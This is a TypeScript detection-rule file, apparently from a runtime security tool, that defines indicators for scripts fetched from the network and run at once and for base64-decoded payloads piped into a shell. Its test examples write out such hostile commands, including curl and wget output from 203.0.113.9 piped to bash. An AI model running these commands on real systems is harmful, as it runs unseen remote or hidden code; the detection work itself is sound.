import type { CommandLine, SimpleCommand } from "#alert/command-line.ts";
import type { Indicator } from "../../indicator.ts";
import { behind } from "../gates.ts";
import type { Call } from "./calls.ts";
import {
  argumentText,
  callOf,
  calls,
  findPipe,
  hasShortOption,
  hasWord,
  inCommands,
  isSubstitution,
  quoteBetween,
  withoutVersion,
} from "./calls.ts";
import { inContainer, onHost, ran } from "./examples.ts";
import { gated } from "./needles.ts";
import { downloaders, interpreters, shells } from "./programs.ts";

/** Code that is fetched or decoded and run at once. */

const decoders = new Set([
  "base64",
  "base32",
  "basenc",
  "openssl",
  "xxd",
  "uudecode",
  "gbase64",
  "hex",
  "base58",
  "python",
  "python3",
  "perl",
]);

const runners = new Set([...shells, ...interpreters, "python2", "python3", "source", ".", "eval"]);

export const downloadPipedToShell: Indicator = {
  id: "download-piped-to-shell",
  behaviour: "fetches a script from the network and runs it at once",
  meaning: "Nobody sees what is run, nothing stays on disk, and the server can answer each caller differently.",
  technique: "T1059.004",
  tactic: "execution",
  alsoTechniques: ["T1105", "T1204.004"],
  severity: "high",
  certainty: "likely",
  platforms: ["Linux", "Containers"],
  families: ["syscall", "k8s_audit", "plugin"],
  source: "https://attack.mitre.org/techniques/T1105/",
  match: behind(
    { needs: ["joined-commands"] },
    (facts) => inCommands(facts, fetchAndRun) ?? fetchAndRun(facts.parent.command),
  ),
  examples: {
    found: [
      ran("sh -c curl -fsSL http://203.0.113.9/a.sh | bash", inContainer),
      ran("bash -c wget -qO- http://203.0.113.9/x | sudo sh"),
      ran('bash -c "$(curl -fsSL https://203.0.113.9/i.sh)"'),
      ran("sh -c (curl -s http://203.0.113.9/a||wget -qO- http://203.0.113.9/a)|sh"),
      ran("sh -c curl http://203.0.113.9/p.py | python3 -"),
      ran("whoami", { "proc.pcmdline": "sh -c curl -s http://203.0.113.9/a | sh" }),
    ],
    ignored: [
      ran("sh -c curl -s https://example.com/data.json | jq ."),
      ran("sh -c curl -o /dev/null https://example.com/health"),
      ran("sh -c echo curl | bash -n"),
      ran("sh -c wget -q https://example.com/a.tgz && tar xf a.tgz"),
    ],
  },
};

export const decodedPayloadIntoShell: Indicator = {
  id: "decoded-payload-into-shell",
  behaviour: "decodes hidden text and runs it",
  meaning: "The encoding keeps rules and people from seeing what the command does.",
  technique: "T1059.004",
  tactic: "execution",
  alsoTechniques: ["T1140", "T1027.010"],
  severity: "high",
  certainty: "certain",
  platforms: ["Linux", "Containers"],
  families: ["syscall", "k8s_audit", "plugin"],
  source: "https://attack.mitre.org/techniques/T1027/010/",
  match: gated(
    ["base64", "base32", "basenc", "openssl", "xxd", "uudecode"],
    (facts) => inCommands(facts, decodeAndRun) ?? decodeAndRun(facts.parent.command),
  ),
  examples: {
    found: [
      ran("sh -c echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkvYQ== | base64 -d | sh", inContainer),
      ran('bash -c eval "$(echo aWQ= | base64 --decode)"'),
      ran("bash -c bash <(echo aWQ= | base64 -d)"),
      ran("sh -c echo 6964 | xxd -r -p | bash", onHost),
    ],
    ignored: [
      ran("sh -c echo aWQ= | base64 -d > /tmp/a.txt"),
      ran("sh -c kubectl get secret x -o jsonpath={.data.p} | base64 -d"),
      ran("sh -c base64 /etc/hosts | head"),
    ],
  },
};

export const decodesPayload: Indicator = {
  id: "decodes-payload",
  behaviour: "decodes text that was encoded (base64 and the like)",
  meaning: "Payloads and settings of malware travel encoded and are decoded where they are used.",
  technique: "T1140",
  tactic: "defense-evasion",
  alsoTechniques: ["T1132.001", "T1027.013"],
  severity: "medium",
  certainty: "weak",
  platforms: ["Linux", "Containers"],
  families: ["syscall", "plugin"],
  source: "https://attack.mitre.org/techniques/T1140/",
  match: calls(decoders, (call) => isDecoding(call)),
  examples: {
    found: [
      ran("base64 -d /tmp/x.b64", inContainer),
      ran("sh -c echo aWQ= | base64 --decode > /tmp/x"),
      ran("openssl enc -d -aes-256-cbc -in /tmp/p"),
      ran("xxd -r -p x.hex x"),
    ],
    ignored: [ran("base64 /etc/hosts"), ran("openssl x509 -in c.pem"), ran("xxd -l 16 x"), ran("base64 -w 0")],
  },
};

function fetchAndRun(line: CommandLine): string | null {
  const pipe = findPipe(line, isFetching, isRunner);
  if (pipe) return quoteBetween(line, ...pipe);
  return substituted(line, isFetching);
}

function decodeAndRun(line: CommandLine): string | null {
  const isDecoder = (command: SimpleCommand) => decoders.has(command.program) && isDecoding(callOf(command, line));
  const pipe = findPipe(line, isDecoder, isRunner);
  if (pipe) return quoteBetween(line, ...pipe);
  return substituted(line, isDecoder);
}

/** `sh -c "$(curl ...)"`, `eval $(...)`, `bash <(...)`: the shell, then what stands inside it. */
function substituted(line: CommandLine, test: (command: SimpleCommand) => boolean): string | null {
  const inner = line.commands.findIndex((command) => test(command));
  const command = line.commands[inner];
  if (command === undefined) return null;
  for (let index = inner - 1; index >= 0 && index > inner - 8; index -= 1) {
    const outer = line.commands[index];
    if (outer === undefined || outer.depth >= command.depth || !isRunner(outer)) continue;
    return isSubstitution(line, outer, command) && isRunWhole(line, outer, command)
      ? quoteBetween(line, outer, command)
      : null;
  }
  return null;
}

/** `sh -c "x=$(curl ...)"` keeps the answer, it does not run it: the substitution must be the first thing of the script. */
function isRunWhole(line: CommandLine, outer: SimpleCommand, inner: SimpleCommand): boolean {
  if (outer.program === "eval" || outer.program === "source" || outer.program === ".") return true;
  const between = line.text.slice(outer.words[0]?.end ?? 0, inner.words[0]?.start ?? 0);
  return (
    /^(?: +-\w{1,8})*(?: +<<<)? *["']?(?:\$\(|`|<\()/.test(between) ||
    /(?:eval|source|\.) +["']?(?:\$\(|<\()/.test(between) ||
    /sh +(?:-\w+ +)?["']?<\(/.test(between)
  );
}

function isFetching({ program, words }: SimpleCommand): boolean {
  if (!downloaders.has(program) && program !== "nc") return false;
  return (
    !words.some(({ value }) => value === "-o" || value === "--output" || value === "-O" || value === "-I") ||
    program === "wget"
  );
}

function isRunner({ program, words }: SimpleCommand): boolean {
  if (!runners.has(withoutVersion(program)) && !runners.has(program)) return false;
  // `python3 -m json.tool` and `node script.js` read the text as data.
  const first = words[1]?.value;
  return (
    first === undefined ||
    first === "-" ||
    first === "-s" ||
    (shells.has(program) && !hasScript(words.map(({ value }) => value))) ||
    program === "eval" ||
    program === "source" ||
    program === "."
  );
}

function hasScript(values: readonly string[]): boolean {
  return values
    .slice(1)
    .some(
      (value) =>
        value === "-n" ||
        (!value.startsWith("-") &&
          !value.startsWith("$(") &&
          !value.startsWith("<(") &&
          !value.startsWith("`") &&
          !value.includes("$(") &&
          !value.includes("`")),
    );
}

function isDecoding(call: Call): boolean {
  const text = argumentText(call);
  switch (call.program) {
    case "openssl":
      return (text.startsWith("enc ") || text.startsWith("base64") || text.startsWith("aes")) && hasWord(call, "-d");
    case "xxd":
      return hasShortOption(call, "r");
    case "uudecode":
      return true;
    case "python":
    case "python3":
    case "perl":
      return text.includes("b64decode") || text.includes("decode_base64") || text.includes("-m base64 -d");
    default:
      return hasShortOption(call, "dD") || hasWord(call, "--decode");
  }
}
